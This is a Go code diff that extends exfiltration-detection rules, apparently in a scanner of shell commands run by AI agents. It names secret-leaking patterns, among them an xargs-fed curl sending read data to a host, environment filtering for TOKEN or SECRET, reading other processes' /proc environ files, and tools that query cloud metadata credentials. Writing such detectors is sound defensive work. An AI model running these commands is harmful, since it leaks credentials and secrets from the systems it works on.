@@ -124,6 +124,13 @@ var exfiltrationRules = []*rule{
 					return true, f.what
 				}
 			}
+			for _, w := range c.args() {
+				// xargs -I{} curl 'https://host/?d={}': what is read
+				// goes into the request
+				if w.flow != nil && w.flow.kind == flowSecret && c.xargs {
+					return true, w.flow.what
+				}
+			}
 			return false, ""
 		}},
 	{ID: "exfil-dev-tcp", Level: LevelCritical, Category: CategoryExfiltration, Description: "writing secrets to a raw network connection",
@@ -189,7 +196,8 @@ var exfiltrationRules = []*rule{
 		}},
 	{ID: "cloud-metadata-credentials", Level: LevelHigh, Category: CategoryExfiltration, Description: "asking the cloud metadata service for the machine's credentials or user data",
 		Suggestions: []string{"Use the SDK's credential chain inside the application", "Do not print instance credentials"},
-		names:       names("curl", "wget", "http", "https", "xh", "httpie", "nc", "python", "node", "ruby", "perl", "aria2c", "fetch", "lwp-request", "powershell"),
+		names: names("curl", "wget", "http", "https", "xh", "httpie", "nc", "python", "node", "ruby", "perl", "aria2c", "fetch", "lwp-request", "powershell",
+			"invoke-webrequest", "invoke-restmethod", "start-bitstransfer"),
 		match: func(a *analysis, c *cmd) (bool, string) {
 			for _, w := range c.args() {
 				s := w.s
@@ -319,6 +327,53 @@ var exfiltrationRules = []*rule{
 			}
 			return false, ""
 		}},
+	{ID: "secret-printed", Level: LevelHigh, Category: CategoryExfiltration, Description: "printing a stored secret or a secret variable into the output (the agent's context and logs)",
+		Suggestions: []string{"Hand the secret to the program that needs it (a pipe or an environment variable), never to the output", "Check it is set with [ -n \"$VAR\" ]"},
+		match: func(a *analysis, c *cmd) (bool, string) {
+			switch c.name {
+			case "where-object", "select-string", "findstr":
+				// gci env: | ? Name -match 'TOKEN|SECRET': the secret
+				// variables picked out of the environment
+				if c.in.kind == flowSecret && a.wantOut == 0 && (secretPattern(joinWords(c.args())) || strings.Contains(lower(joinWords(c.args())), "key")) {
+					return true, c.in.what
+				}
+			}
+			if a.wantOut > 0 || c.pipe != nil && c.stage < len(c.pipe)-1 || len(c.redirs) > 0 {
+				return false, "" // handed to a program or a file
+			}
+			if what := storedSecretRead(c); what != "" {
+				return true, what
+			}
+			for _, s := range c.pipe[:min(c.stage, len(c.pipe))] {
+				if s == nil {
+					continue
+				}
+				if p := foreignEnviron(s); p != "" {
+					return true, p
+				}
+			}
+			if p := foreignEnviron(c); p != "" {
+				return true, p
+			}
+			switch c.name {
+			case "printenv":
+				for _, w := range positional(c.args()) {
+					if isSecretVar(w.s) {
+						return true, "$" + w.s
+					}
+				}
+			case "echo", "printf", "print", "write-output", "write-host", "write", "out-host":
+				for _, w := range c.args() {
+					if n := plainSecretVar(w.s); n != "" && !w.ok && !testedOnly(a.src, n) {
+						return true, "$" + n
+					}
+					if n := winSecretVar(w.s); n != "" && !w.ok {
+						return true, n // $env:X, %X%
+					}
+				}
+			}
+			return false, ""
+		}},
 	{ID: "env-secrets-transcript", Level: LevelHigh, Category: CategoryExfiltration, Description: "collecting secrets from environments into the output",
 		Suggestions: []string{"Print only the variable names (env | cut -d= -f1)", "Check a variable is set with [ -n \"$VAR\" ]"}, names: names("grep", "egrep", "rg"),
 		match: func(a *analysis, c *cmd) (bool, string) {
@@ -439,3 +494,18 @@ var exfiltrationRules = []*rule{
 }
 
 func init() { ruleSets = append(ruleSets, exfiltrationRules) }
+
+// foreignEnviron is the /proc/PID/environ of another process a command
+// reads (its secrets: tokens, database passwords), or "".
+func foreignEnviron(c *cmd) string {
+	for _, w := range c.args() {
+		rest, ok := strings.CutPrefix(w.s, "/proc/")
+		if !ok {
+			continue
+		}
+		if pid, ok := strings.CutSuffix(rest, "/environ"); ok && pid != "self" && pid != "$$" && pid != "thread-self" {
+			return w.s
+		}
+	}
+	return ""
+}
